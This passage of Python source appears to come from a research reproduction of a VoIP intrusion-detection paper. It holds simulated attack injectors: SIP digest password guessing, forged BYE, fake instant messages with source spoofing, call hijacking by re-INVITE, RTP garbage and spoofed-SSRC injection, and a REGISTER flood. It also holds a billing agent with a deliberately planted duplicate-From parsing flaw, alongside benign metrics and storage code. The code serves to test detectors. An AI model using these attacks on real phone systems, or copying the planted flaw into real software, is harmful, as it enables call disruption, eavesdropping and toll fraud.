            self.report.details["error"] = "no media flow toward the victim observed"
            return
        (src, dst), info = flow
        self.report.launched_at = self.testbed.loop.now()
        self.report.details.update(
            {"impersonated_ssrc": info["ssrc"], "victim": str(dst),
             "genuine_source": str(src)}
        )
        if self.continue_sequence:
            # Ride ahead of the genuine stream so injected packets win
            # the playout race (the paper's "played in place of the real
            # packets" insertion).
            self._seq = itertools.count((info["last_seq"] + 3) & 0xFFFF)
            self._ts = itertools.count((info["last_ts"] + 3 * 160) & 0xFFFFFFFF, 160)
        self._inject(dst, info)

    def _inject(self, victim: Endpoint, info: dict) -> None:
        if self._sent >= self.packets:
            self.report.completed = True
            self.report.details["injected"] = self._sent
            return
        packet = RtpPacket(
            payload_type=info["payload_type"],
            sequence=next(self._seq) & 0xFFFF,
            timestamp=next(self._ts) & 0xFFFFFFFF,
            ssrc=info["ssrc"],
            payload=self._tone.next_frame(),
        )
        self._socket.send_to(victim, packet.encode())
        self._sent += 1
        self.testbed.loop.call_later(self.interval, lambda: self._inject(victim, info))
