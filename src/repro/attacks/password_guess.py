"""Password guessing against digest authentication (paper §3.3).

"If the client keeps sending requests with different values in the
challenge response field, this could be seen as a type of attack that is
trying to break the authentication key by brute force."

The attacker answers each 401 challenge with a digest computed from the
next candidate password — so every attempt carries a *different*,
validly-formatted response value, exactly the signature the stateful
``AuthFailure`` event accumulates.
"""

from __future__ import annotations

import itertools

from repro.attacks.base import AttackerAgent, AttackReport
from repro.net.addr import Endpoint
from repro.sip import auth as sip_auth
from repro.sip.constants import METHOD_REGISTER, STATUS_OK, STATUS_UNAUTHORIZED
from repro.sip.headers import NameAddr, Via
from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message
from repro.sip.uri import SipUri
from repro.voip.testbed import Testbed

DEFAULT_WORDLIST = (
    "123456", "password", "letmein", "qwerty", "phone", "voip",
    "alice1", "secret", "admin", "welcome",
)


class PasswordGuessAttack:
    """Brute-force a user's digest password via REGISTER."""

    name = "password-guess"

    def __init__(
        self,
        testbed: Testbed,
        username: str = "alice",
        wordlist: tuple[str, ...] = DEFAULT_WORDLIST,
        interval: float = 0.2,
    ) -> None:
        self.testbed = testbed
        self.username = username
        self.wordlist = wordlist
        self.interval = interval
        self.agent = AttackerAgent(
            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
        )
        # Listen for the registrar's responses on our own SIP socket.
        self.agent.add_sip_listener(self._on_response)
        self.report = AttackReport(name=self.name)
        self.call_id = f"bruteforce@{testbed.attacker_stack.ip}"
        self._cseq = itertools.count(1)
        self._guesses = iter(wordlist)
        self.attempts = 0
        self.cracked_password: str | None = None

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _fire(self) -> None:
        self.report.launched_at = self.testbed.loop.now()
        self.report.details.update({"user": self.username, "wordlist": len(self.wordlist)})
        # Kick off with an unauthenticated REGISTER to obtain a challenge.
        self._send_register(challenge=None)

    def _send_register(self, challenge: sip_auth.DigestChallenge | None) -> None:
        domain = self.testbed.proxy.domain
        aor = SipUri.parse(f"sip:{self.username}@{domain}")
        registrar_uri = SipUri(user="", host=domain)
        request = SipRequest(method=METHOD_REGISTER, uri=registrar_uri)
        via = Via(
            transport="UDP",
            host=str(self.testbed.attacker_stack.ip),
            port=5060,
            params=(("branch", self.agent.new_branch()),),
        )
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        request.headers.add("From", str(NameAddr(uri=aor).with_tag("guess")))
        request.headers.add("To", str(NameAddr(uri=aor)))
        request.headers.add("Call-ID", self.call_id)
        request.headers.add("CSeq", f"{next(self._cseq)} {METHOD_REGISTER}")
        request.headers.add(
            "Contact", f"<sip:{self.username}@{self.testbed.attacker_stack.ip}:5060>"
        )
        request.headers.set("Content-Length", "0")
        if challenge is not None:
            guess = next(self._guesses, None)
            if guess is None:
                self.report.completed = True
                self.report.details["attempts"] = self.attempts
                return
            self.attempts += 1
            self._last_guess = guess
            creds = sip_auth.answer_challenge(
                challenge, self.username, guess, METHOD_REGISTER, str(registrar_uri)
            )
            request.headers.add("Authorization", creds.encode())
        self.agent.send_sip(request, self.testbed.proxy_endpoint)

    def _on_response(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            message = parse_message(payload)
        except SipParseError:
            return
        if not isinstance(message, SipResponse):
            return
        if message.status == STATUS_UNAUTHORIZED:
            www = message.headers.get("WWW-Authenticate")
            if www is None:
                return
            try:
                challenge = sip_auth.DigestChallenge.parse(www)
            except sip_auth.AuthError:
                return
            self.testbed.loop.call_later(
                self.interval, lambda: self._send_register(challenge)
            )
        elif message.status == STATUS_OK and self.attempts > 0:
            self.cracked_password = getattr(self, "_last_guess", None)
            self.report.completed = True
            self.report.details.update(
                {"cracked": self.cracked_password, "attempts": self.attempts}
            )
