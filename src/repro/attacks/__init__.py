"""Attack injectors: the paper's four demonstrated attacks (BYE, Fake IM,
Call Hijack, RTP) plus the Section 3 motivating scenarios (REGISTER DoS,
password guessing, billing fraud)."""

from repro.attacks.base import AttackerAgent, AttackReport, DialogSpy, SpiedDialog
from repro.attacks.billing_fraud import BillingFraudAttack
from repro.attacks.bye_attack import ByeAttack
from repro.attacks.call_hijack import CallHijackAttack
from repro.attacks.fake_im import FakeImAttack
from repro.attacks.h323_attacks import ForgedReleaseAttack, H225Spy
from repro.attacks.media_attacks import RtcpByeAttack, SsrcSpoofAttack
from repro.attacks.password_guess import PasswordGuessAttack
from repro.attacks.register_dos import RegisterDosAttack
from repro.attacks.rtp_attack import RtpAttack

__all__ = [
    "AttackerAgent",
    "AttackReport",
    "BillingFraudAttack",
    "ByeAttack",
    "CallHijackAttack",
    "DialogSpy",
    "FakeImAttack",
    "ForgedReleaseAttack",
    "H225Spy",
    "RtcpByeAttack",
    "SsrcSpoofAttack",
    "PasswordGuessAttack",
    "RegisterDosAttack",
    "RtpAttack",
    "SpiedDialog",
]
