"""Call Hijacking (paper §4.2.3, Figure 7).

"By sending a REINVITE message to [A], the attacker can redirect the RTP
flow that is supposed to go to B to another location, most likely the IP
address of the machine where the attacker is."

The forged re-INVITE impersonates B and carries an SDP whose connection
address is the attacker's.  A's phone — standard-compliant — starts
sending its audio there.  B, knowing nothing, keeps streaming to A:
that orphan flow from B's old endpoint is what the IDS rule detects.
"""

from __future__ import annotations

from repro.attacks.base import AttackerAgent, AttackReport
from repro.net.addr import Endpoint
from repro.net.stack import UdpSocket
from repro.sip.constants import METHOD_INVITE
from repro.sip.sdp import audio_offer
from repro.voip.testbed import Testbed


class CallHijackAttack:
    """Redirect A's outgoing media to the attacker via a forged re-INVITE."""

    name = "call-hijack"

    def __init__(self, testbed: Testbed, media_port: int = 46000) -> None:
        self.testbed = testbed
        self.media_port = media_port
        self.agent = AttackerAgent(
            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
        )
        self.report = AttackReport(name=self.name)
        self.stolen_packets = 0
        self.stolen_bytes = 0
        self._media_socket: UdpSocket = testbed.attacker_stack.bind(
            media_port, self._on_stolen_media
        )
        self._rtcp_socket: UdpSocket = testbed.attacker_stack.bind(
            media_port + 1, lambda payload, src, now: None
        )

    def _on_stolen_media(self, payload: bytes, src: Endpoint, now: float) -> None:
        self.stolen_packets += 1
        self.stolen_bytes += len(payload)

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _fire(self) -> None:
        dialog = self.agent.spy.newest_live_dialog()
        if dialog is None:
            self.report.details["error"] = "no live dialog to hijack"
            return
        request, victim = self.agent.forge_in_dialog_request(
            dialog, METHOD_INVITE, impersonate_callee=True
        )
        # Claim B's media moved to the attacker's machine.
        sdp = audio_offer(
            address=self.testbed.attacker_stack.ip,
            port=self.media_port,
            session_id="666",
            version="2",
            user="bob",
        )
        request._set_body(sdp.encode(), "application/sdp")
        # A forged Contact keeps future in-dialog requests coming our way.
        request.headers.set(
            "Contact", f"<sip:bob@{self.testbed.attacker_stack.ip}:5060>"
        )
        self.agent.send_sip(request, victim)
        self.report.launched_at = self.testbed.loop.now()
        self.report.completed = True
        old_media = dialog.media.get(dialog.callee_addr().uri.address_of_record)
        self.report.details.update(
            {
                "call_id": dialog.call_id,
                "victim": str(victim),
                "old_media": str(old_media) if old_media else None,
                "new_media": f"{self.testbed.attacker_stack.ip}:{self.media_port}",
            }
        )
