"""The RTP attack (paper §4.2.4, Figure 8).

"The attacker sends RTP packets whose contents are garbage (both the
header and the payload are filled with random bytes) to one of the
persons in a dialog ... these garbage packets will corrupt the jitter
buffer in the IP Phone client."

Random bytes pass the RTP version check about a quarter of the time
(the two version bits must equal 2); those packets carry effectively
random sequence numbers — tripping the paper's Δseq > 100 rule — and
random SSRCs/sources — tripping the rogue-source rule.  The rest fail
decoding and surface as garbage-on-media-port events.
"""

from __future__ import annotations

import random

from repro.attacks.base import AttackerAgent, AttackReport
from repro.net.addr import Endpoint
from repro.voip.testbed import Testbed


class RtpAttack:
    """Blast garbage datagrams at A's negotiated media port."""

    name = "rtp-attack"

    def __init__(
        self,
        testbed: Testbed,
        packets: int = 50,
        interval: float = 0.01,
        packet_size: int = 172,  # same size as a real G.711 RTP packet
        seed: int = 1337,
    ) -> None:
        self.testbed = testbed
        self.packets = packets
        self.interval = interval
        self.packet_size = packet_size
        self.rng = random.Random(seed)
        self.agent = AttackerAgent(
            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
        )
        self.report = AttackReport(name=self.name)
        self._socket = testbed.attacker_stack.bind_ephemeral(lambda p, s, n: None)
        self._sent = 0

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _target(self) -> Endpoint | None:
        """A's media endpoint, learned from the sniffed SDP."""
        dialog = self.agent.spy.newest_live_dialog()
        if dialog is None:
            return None
        caller_aor = dialog.caller_addr().uri.address_of_record
        return dialog.media.get(caller_aor)

    def _fire(self) -> None:
        target = self._target()
        if target is None:
            self.report.details["error"] = "no media endpoint learned"
            return
        self.report.launched_at = self.testbed.loop.now()
        self.report.details.update(
            {"target": str(target), "packets": self.packets}
        )
        self._send_one(target)

    def _send_one(self, target: Endpoint) -> None:
        if self._sent >= self.packets:
            self.report.completed = True
            return
        garbage = self.rng.randbytes(self.packet_size)
        self._socket.send_to(target, garbage)
        self._sent += 1
        self.testbed.loop.call_later(self.interval, lambda: self._send_one(target))
