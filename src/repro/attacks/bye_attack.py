"""The BYE attack (paper §4.2.1, Figure 5).

"The goal of the BYE attack is to prematurely tear down an existing
dialog session ... Attacker sends a faked BYE message to A.  After
that, A will believe that it is B who wants to tear down the connection
... A will stop its outward RTP flow immediately, while B will continue
to send RTP packets to A."
"""

from __future__ import annotations

from repro.attacks.base import AttackerAgent, AttackReport, SpiedDialog
from repro.sip.constants import METHOD_BYE
from repro.voip.testbed import Testbed


class ByeAttack:
    """Forge a BYE to client A impersonating client B."""

    name = "bye-attack"

    def __init__(self, testbed: Testbed) -> None:
        self.testbed = testbed
        self.agent = AttackerAgent(
            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
        )
        self.report = AttackReport(name=self.name)

    def launch_at(self, when: float) -> AttackReport:
        """Schedule the forged BYE for absolute simulation time ``when``."""
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _fire(self) -> None:
        dialog = self.agent.spy.newest_live_dialog()
        if dialog is None:
            self.report.details["error"] = "no live dialog to attack"
            return
        request, victim = self.agent.forge_in_dialog_request(
            dialog, METHOD_BYE, impersonate_callee=True
        )
        self.agent.send_sip(request, victim)
        self.report.launched_at = self.testbed.loop.now()
        self.report.completed = True
        self.report.details.update(
            {
                "call_id": dialog.call_id,
                "victim": str(victim),
                "impersonated": dialog.callee_addr().uri.address_of_record,
            }
        )

    def victim_dialog(self) -> SpiedDialog | None:
        call_id = self.report.details.get("call_id")
        return self.agent.spy.dialogs.get(call_id) if call_id else None
