"""Fake Instant Messaging (paper §4.2.2, Figure 6).

"By faking the header of an instant message appropriately, the attacker
can forge a message to A and mislead it into believing the message is
from B."

The forged MESSAGE is sent straight to A's SIP port (skipping the proxy
— the path of least resistance for the attacker), so its source IP is
the attacker's, while B's genuine messages consistently arrive from the
proxy.  The IDS's per-sender source-IP state catches the difference.
With ``spoof_source=True`` the attacker also forges the IP source
address, which defeats the single-endpoint rule — the paper concedes
this case and motivates cooperative two-endpoint detection, which
:mod:`repro.core.correlation` implements.
"""

from __future__ import annotations

import itertools

from repro.attacks.base import AttackerAgent, AttackReport
from repro.net.addr import Endpoint, IPv4Address
from repro.sip.constants import METHOD_MESSAGE
from repro.sip.headers import NameAddr, Via
from repro.sip.message import SipRequest
from repro.sip.uri import SipUri
from repro.voip.testbed import Testbed


class FakeImAttack:
    """Send a MESSAGE to A whose From claims to be B."""

    name = "fake-im"

    def __init__(self, testbed: Testbed, spoof_source: bool = False) -> None:
        self.testbed = testbed
        self.spoof_source = spoof_source
        self.agent = AttackerAgent(
            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
        )
        self.report = AttackReport(name=self.name)
        self._ids = itertools.count(1)

    def launch_at(self, when: float, text: str = "send the wire transfer now") -> AttackReport:
        self.testbed.loop.call_at(when, lambda: self._fire(text))
        return self.report

    def launch_now(self, text: str = "send the wire transfer now") -> AttackReport:
        self._fire(text)
        return self.report

    def _fire(self, text: str) -> None:
        testbed = self.testbed
        victim_uri = SipUri(user="alice", host=str(testbed.stack_a.ip), port=5060)
        claimed_from = NameAddr(
            uri=SipUri.parse(f"sip:bob@{testbed.proxy.domain}"), display_name="Bob"
        ).with_tag(f"forged-{next(self._ids)}")
        request = SipRequest(method=METHOD_MESSAGE, uri=victim_uri)
        # To evade the source-consistency rule the attacker must spoof the
        # *established* delivery path for B's messages — the proxy — not
        # B's own address (legit IMs reach A with the proxy as source).
        via_host = (
            str(testbed.proxy_stack.ip) if self.spoof_source else str(testbed.attacker_stack.ip)
        )
        via = Via(transport="UDP", host=via_host, port=5060,
                  params=(("branch", self.agent.new_branch()),))
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        request.headers.add("From", str(claimed_from))
        request.headers.add(
            "To", str(NameAddr(uri=SipUri.parse(f"sip:alice@{testbed.proxy.domain}")))
        )
        request.headers.add("Call-ID", f"forged-im-{next(self._ids)}@{testbed.attacker_stack.ip}")
        request.headers.add("CSeq", f"1 {METHOD_MESSAGE}")
        request._set_body(text.encode("utf-8"), "text/plain")

        victim = Endpoint(testbed.stack_a.ip, 5060)
        if self.spoof_source:
            # Raw-socket source spoofing: the datagram claims to come from
            # the proxy.  (No response will ever reach the attacker.)
            spoofed = Endpoint(IPv4Address.parse(str(testbed.proxy_stack.ip)), 5060)
            testbed.attacker_stack.send_raw_udp(spoofed, victim, request.encode())
        else:
            self.agent.send_sip(request, victim)
        self.report.launched_at = testbed.loop.now()
        self.report.completed = True
        self.report.details.update(
            {
                "claimed_from": "bob@" + testbed.proxy.domain,
                "actual_source": via_host,
                "spoofed": self.spoof_source,
                "text": text,
            }
        )
