"""REGISTER-flood DoS (paper §3.3).

"An unauthorized user client keeps sending unauthenticated REGISTER
requests to bombard the SIP proxy and ignores the 401 UNAUTHORIZED reply
error message from the SIP proxy."

All floods share one Call-ID (one registration session), matching real
flood tools that loop a canned message; the IDS's per-session state is
what distinguishes this from many users each doing one benign
challenge/response round.
"""

from __future__ import annotations

import itertools

from repro.attacks.base import AttackerAgent, AttackReport
from repro.net.addr import Endpoint
from repro.sip.constants import METHOD_REGISTER
from repro.sip.headers import NameAddr, Via
from repro.sip.message import SipRequest
from repro.sip.uri import SipUri
from repro.voip.testbed import Testbed


class RegisterDosAttack:
    """Flood the registrar with unauthenticated REGISTERs."""

    name = "register-dos"

    def __init__(
        self,
        testbed: Testbed,
        requests: int = 20,
        interval: float = 0.1,
        username: str = "alice",  # a real user maximises registrar work
    ) -> None:
        self.testbed = testbed
        self.requests = requests
        self.interval = interval
        self.username = username
        self.agent = AttackerAgent(
            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
        )
        self.report = AttackReport(name=self.name)
        self._cseq = itertools.count(1)
        self._sent = 0
        self.call_id = f"dos-flood@{testbed.attacker_stack.ip}"

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _fire(self) -> None:
        self.report.launched_at = self.testbed.loop.now()
        self.report.details.update({"user": self.username, "requests": self.requests})
        self._send_one()

    def _build_register(self) -> SipRequest:
        domain = self.testbed.proxy.domain
        aor = SipUri.parse(f"sip:{self.username}@{domain}")
        request = SipRequest(method=METHOD_REGISTER, uri=SipUri(user="", host=domain))
        via = Via(
            transport="UDP",
            host=str(self.testbed.attacker_stack.ip),
            port=5060,
            params=(("branch", self.agent.new_branch()),),
        )
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        request.headers.add("From", str(NameAddr(uri=aor).with_tag("flood")))
        request.headers.add("To", str(NameAddr(uri=aor)))
        request.headers.add("Call-ID", self.call_id)
        request.headers.add("CSeq", f"{next(self._cseq)} {METHOD_REGISTER}")
        request.headers.add(
            "Contact", f"<sip:{self.username}@{self.testbed.attacker_stack.ip}:5060>"
        )
        request.headers.add("Expires", "3600")
        request.headers.set("Content-Length", "0")
        return request

    def _send_one(self) -> None:
        if self._sent >= self.requests:
            self.report.completed = True
            return
        self.agent.send_sip(self._build_register(), self.testbed.proxy_endpoint)
        self._sent += 1
        self.testbed.loop.call_later(self.interval, self._send_one)
