"""Constant-time pickling for hot slots dataclasses.

``@dataclass(slots=True)`` (Python 3.11+) installs
``dataclasses._dataclass_getstate`` as the pickle hook, which calls
``dataclasses.fields()`` — a fresh list of ``Field`` objects — for
*every instance serialized*.  Footprints, events and endpoints are
pickled by the hundred-thousand (cluster queues, state checkpoints),
and that per-instance ``fields()`` call dominates the serialization
profile.

:func:`install_fast_pickle` replaces the hooks with a pair that looks
up a per-class tuple of field names computed once.  The field list is
resolved through ``type(self)``, so a subclass that was not explicitly
installed still serializes its full (inherited + own) field set.
"""

from __future__ import annotations

import dataclasses

_FIELD_NAMES: dict[type, tuple[str, ...]] = {}


def _field_names(cls: type) -> tuple[str, ...]:
    names = _FIELD_NAMES.get(cls)
    if names is None:
        names = tuple(f.name for f in dataclasses.fields(cls))
        _FIELD_NAMES[cls] = names
    return names


def _getstate(self):
    return [getattr(self, name) for name in _field_names(type(self))]


def _setstate(self, state):
    # object.__setattr__: the hot classes are frozen dataclasses.
    for name, value in zip(_field_names(type(self)), state):
        object.__setattr__(self, name, value)


def install_fast_pickle(*classes: type) -> None:
    """Swap each class's pickle hooks for the cached-field-tuple pair."""
    for cls in classes:
        _field_names(cls)  # warm the cache at import time
        cls.__getstate__ = _getstate
        cls.__setstate__ = _setstate
