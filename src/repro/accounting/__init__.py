"""Accounting substrate: billing agent (with its deliberate parser-
differential vulnerability), call records, and the billing database."""

from repro.accounting.billing import BillingAgent
from repro.accounting.database import BillingDatabase
from repro.accounting.records import ACCOUNTING_PORT, CallRecord

__all__ = ["ACCOUNTING_PORT", "BillingAgent", "BillingDatabase", "CallRecord"]
