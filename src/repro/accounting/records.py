"""Call detail records and the accounting wire protocol.

The billing software announces call events to its database over a simple
line protocol (``TXN action=start call_id=... from=... to=...``), which
the SCIDIVE tap observes on the hub — the "transaction messages between
the accounting software and the database" of the paper's §3.2 scenario.
"""

from __future__ import annotations

from dataclasses import dataclass

ACCOUNTING_PORT = 9090


@dataclass(frozen=True, slots=True)
class CallRecord:
    """One billing transaction."""

    call_id: str
    from_aor: str
    to_aor: str
    action: str  # "start" | "stop"
    time: float

    def encode(self) -> bytes:
        return (
            f"TXN action={self.action} call_id={self.call_id} "
            f"from={self.from_aor} to={self.to_aor} ts={self.time:.6f}"
        ).encode("utf-8")

    @classmethod
    def decode(cls, payload: bytes, default_time: float = 0.0) -> "CallRecord":
        text = payload.decode("utf-8").strip()
        if not text.startswith("TXN "):
            raise ValueError(f"not a TXN line: {text!r}")
        fields: dict[str, str] = {}
        for chunk in text[4:].split():
            key, eq, value = chunk.partition("=")
            if not eq:
                raise ValueError(f"bad TXN field: {chunk!r}")
            fields[key] = value
        missing = {"action", "call_id", "from", "to"} - fields.keys()
        if missing:
            raise ValueError(f"TXN missing fields {sorted(missing)}: {text!r}")
        return cls(
            call_id=fields["call_id"],
            from_aor=fields["from"],
            to_aor=fields["to"],
            action=fields["action"],
            time=float(fields.get("ts", default_time)),
        )
