"""The billing database host: receives and stores call records."""

from __future__ import annotations

from repro.accounting.records import ACCOUNTING_PORT, CallRecord
from repro.net.addr import Endpoint
from repro.net.stack import HostStack


class BillingDatabase:
    """A trivially simple transactional store listening on UDP.

    Supports the queries the billing-fraud experiment needs: records per
    user, and total billed seconds (start/stop pairing by Call-ID).
    """

    def __init__(self, stack: HostStack, port: int = ACCOUNTING_PORT) -> None:
        self.stack = stack
        self.port = port
        self.socket = stack.bind(port, self._on_datagram)
        self.records: list[CallRecord] = []
        self.decode_errors = 0

    def _on_datagram(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            record = CallRecord.decode(payload, default_time=now)
        except ValueError:
            self.decode_errors += 1
            return
        self.records.append(record)

    # -- queries ------------------------------------------------------------

    def records_for(self, aor: str) -> list[CallRecord]:
        return [r for r in self.records if r.from_aor == aor]

    def billed_seconds(self, aor: str) -> float:
        """Sum of (stop - start) per call billed to ``aor``."""
        starts: dict[str, float] = {}
        total = 0.0
        for record in self.records:
            if record.from_aor != aor:
                continue
            if record.action == "start":
                starts[record.call_id] = record.time
            elif record.action == "stop" and record.call_id in starts:
                total += record.time - starts.pop(record.call_id)
        return total

    @property
    def endpoint(self) -> Endpoint:
        return Endpoint(self.stack.ip, self.port)
