"""The billing agent running on the proxy — including its vulnerability.

The paper's §3.2 synthetic billing-fraud scenario needs a proxy whose
accounting can be fooled "into believing the call is initiated by
someone else".  The modelled bug is a classic parser differential: the
billing code attributes the call to the **last** ``From`` header in the
message, while RFC 3261 allows only one.  A well-formed call has one
``From`` and is billed correctly; the attacker's crafted INVITE carries
a second ``From`` naming the victim, which strict parsers (the IDS)
reject as malformed but the lenient proxy happily processes.
"""

from __future__ import annotations

from repro.accounting.records import CallRecord
from repro.net.addr import Endpoint
from repro.net.stack import HostStack
from repro.sim.eventloop import EventLoop
from repro.sip.headers import NameAddr
from repro.sip.message import SipRequest


class BillingAgent:
    """Accounting software co-located with the proxy."""

    def __init__(
        self,
        stack: HostStack,
        loop: EventLoop,
        database: Endpoint,
        source_port: int = 9091,
    ) -> None:
        self.stack = stack
        self.loop = loop
        self.database = database
        self.socket = stack.bind(source_port, lambda payload, src, now: None)
        self.transactions: list[CallRecord] = []
        self._open_calls: set[str] = set()

    # -- the vulnerable attribution --------------------------------------------

    @staticmethod
    def billed_party(request: SipRequest) -> str:
        """Who pays for this call.

        THE BUG (intentional, modelling the paper's vulnerable proxy):
        attribution uses the *last* From header.  With the RFC-mandated
        single From this is correct; with a smuggled duplicate it bills
        the victim named in the second header.
        """
        from_values = request.headers.get_all("From")
        if not from_values:
            return ""
        try:
            return NameAddr.parse(from_values[-1]).uri.address_of_record
        except Exception:
            return ""

    # -- call lifecycle hooks (invoked by the proxy) ------------------------------

    def on_invite(self, request: SipRequest, now: float) -> None:
        try:
            call_id = request.call_id
            to_aor = request.to_addr.uri.address_of_record
        except Exception:
            return
        if call_id in self._open_calls:
            return  # re-INVITE or retransmission: already billed
        self._open_calls.add(call_id)
        self._emit(CallRecord(call_id, self.billed_party(request), to_aor, "start", now))

    def on_bye(self, request: SipRequest, now: float) -> None:
        try:
            call_id = request.call_id
            to_aor = request.to_addr.uri.address_of_record
        except Exception:
            return
        if call_id not in self._open_calls:
            return
        self._open_calls.discard(call_id)
        self._emit(CallRecord(call_id, self.billed_party(request), to_aor, "stop", now))

    def _emit(self, record: CallRecord) -> None:
        self.transactions.append(record)
        self.socket.send_to(self.database, record.encode())
