"""Live health/metrics sidecar: ``/metrics``, ``/healthz``, ``/alerts``.

A stdlib ``http.server`` thread that exposes the running engine (or
cluster) while a replay/scenario is in flight — the operational
counterpart of the post-run ``--metrics-out`` snapshot.  No third-party
dependencies: Prometheus scrapes the text exposition, humans curl the
JSON endpoints.

The :class:`StatusSource` indirection exists because the interesting
objects appear at different times: the CLI binds the global metrics
registry before the run starts (metrics live mid-run), the engine as
soon as the harness returns it, the cluster before ``process_trace``.
Every handler reads whatever is bound *now*, so early probes get an
honest ``{"status": "starting"}`` rather than a connection error.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from repro.obs.registry import MetricsRegistry

DEFAULT_ALERT_LIMIT = 50


class StatusSource:
    """Settable references to whatever should be served right now."""

    def __init__(self) -> None:
        self.engine = None
        self.cluster = None
        self.registry: MetricsRegistry | None = None
        self._requests: dict[str, int] = {}
        self._lock = threading.Lock()

    # -- binding (CLI / tests) -------------------------------------------------

    def set_engine(self, engine) -> None:
        self.engine = engine

    def set_cluster(self, cluster) -> None:
        self.cluster = cluster

    def set_registry(self, registry: MetricsRegistry | None) -> None:
        self.registry = registry

    def count_request(self, path: str) -> None:
        with self._lock:
            self._requests[path] = self._requests.get(path, 0) + 1

    # -- views -----------------------------------------------------------------

    def metrics_text(self) -> str:
        """Merged Prometheus exposition of every bound metrics source.

        Always non-empty: the server's own request counter is appended,
        so a scrape during startup still yields a valid exposition.
        """
        out = MetricsRegistry()
        if self.registry is not None:
            out.merge(self.registry)
        engine = self.engine
        if engine is not None:
            registry = engine.metrics_registry()
            if registry is not None and registry is not self.registry:
                out.merge(registry)
        cluster = self.cluster
        if cluster is not None:
            out.merge(cluster.live_registry())
        requests = out.counter(
            "scidive_http_requests_total",
            "Requests served by the observability sidecar",
            labelnames=("path",),
        )
        with self._lock:
            for path, count in self._requests.items():
                requests.labels(path=path).inc(count)
        return out.render_prometheus()

    def health(self) -> dict[str, Any]:
        payload: dict[str, Any] = {"status": "ok"}
        engine = self.engine
        cluster = self.cluster
        if engine is None and cluster is None:
            payload["status"] = "starting"
        if engine is not None:
            stats = engine.stats
            engine_view: dict[str, Any] = {
                "name": engine.name,
                "frames": stats.frames,
                "footprints": stats.footprints,
                "events": stats.events,
                "alerts": stats.alerts,
                "live_trails": engine.trails.trail_count,
                "live_sessions": engine.trails.session_count,
                "expired_trails": engine.expired_trails,
            }
            recorder = getattr(engine, "forensics", None)
            if recorder is not None:
                engine_view["forensics_sessions"] = recorder.session_count
                engine_view["forensics_records"] = recorder.record_count
                age = recorder.last_frame_age()
                if age is not None:
                    engine_view["last_frame_age_seconds"] = round(age, 3)
            firewall = getattr(engine, "firewall", None)
            if firewall is not None:
                engine_view["firewall"] = firewall.as_dict()
            payload["engine"] = engine_view
        if cluster is not None:
            payload["cluster"] = cluster.health()
        return payload

    def alerts(self, limit: int = DEFAULT_ALERT_LIMIT) -> list[dict]:
        alerts: list = []
        if self.engine is not None:
            alerts = list(self.engine.alert_log.alerts)
        elif self.cluster is not None and self.cluster.result is not None:
            alerts = list(self.cluster.result.alerts)
        return [alert.to_dict() for alert in alerts[-limit:]]


class _Handler(BaseHTTPRequestHandler):
    server: "_Server"

    def do_GET(self) -> None:  # noqa: N802 (http.server API)
        source = self.server.source
        path = self.path.split("?", 1)[0].rstrip("/") or "/"
        source.count_request(path)
        try:
            if path == "/metrics":
                self._reply(source.metrics_text(),
                            "text/plain; version=0.0.4; charset=utf-8")
            elif path == "/healthz":
                self._reply_json(source.health())
            elif path == "/alerts":
                self._reply_json(source.alerts())
            else:
                self._reply_json(
                    {"error": f"unknown path {path!r}",
                     "paths": ["/metrics", "/healthz", "/alerts"]},
                    status=404,
                )
        except Exception as exc:  # pragma: no cover - defensive
            self._reply_json({"status": "error", "error": str(exc)}, status=500)

    def _reply(self, body: str, content_type: str, status: int = 200) -> None:
        data = body.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _reply_json(self, payload: dict | list, status: int = 200) -> None:
        self._reply(json.dumps(payload, indent=2, sort_keys=True) + "\n",
                    "application/json", status)

    def log_message(self, format: str, *args) -> None:  # noqa: A002
        pass  # the sidecar must not spam the CLI's stdout


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    # Replays finish in seconds; a lingering TIME_WAIT socket from the
    # previous run must not fail the next one's bind.
    allow_reuse_address = True

    def __init__(self, address, source: StatusSource) -> None:
        super().__init__(address, _Handler)
        self.source = source


class ObsServer:
    """The sidecar: ``ObsServer(port=8080).start()`` then curl away.

    ``port=0`` binds an ephemeral port (tests); the bound port is
    available as ``.port`` after :meth:`start`.
    """

    def __init__(
        self,
        port: int = 0,
        host: str = "127.0.0.1",
        source: StatusSource | None = None,
    ) -> None:
        self.host = host
        self.requested_port = port
        self.source = source if source is not None else StatusSource()
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None

    @property
    def port(self) -> int:
        if self._server is None:
            return self.requested_port
        return self._server.server_address[1]

    def url(self, path: str = "/") -> str:
        return f"http://{self.host}:{self.port}{path}"

    def start(self) -> "ObsServer":
        if self._server is not None:
            return self
        self._server = _Server((self.host, self.requested_port), self.source)
        self._thread = threading.Thread(
            target=self._server.serve_forever,
            name="scidive-obs-server",
            daemon=True,
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        if self._server is None:
            return
        self._server.shutdown()
        self._server.server_close()
        if self._thread is not None:
